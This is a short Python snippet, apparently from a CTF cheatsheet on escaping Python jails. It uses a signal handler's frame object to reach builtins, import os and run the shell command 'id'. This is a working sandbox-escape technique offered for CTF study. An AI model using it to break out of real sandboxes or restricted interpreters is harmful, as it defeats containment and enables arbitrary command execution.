# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (Other ways to obtain a frame: _signal handler)
# Family: frame
# What: signal handler receives the current frame object; its f_globals reaches builtins
import signal

def handler(signum, frame):
    frame.f_builtins["__import__"]("os").system("id")

signal.signal(signal.SIGUSR1, handler)
signal.raise_signal(signal.SIGUSR1)
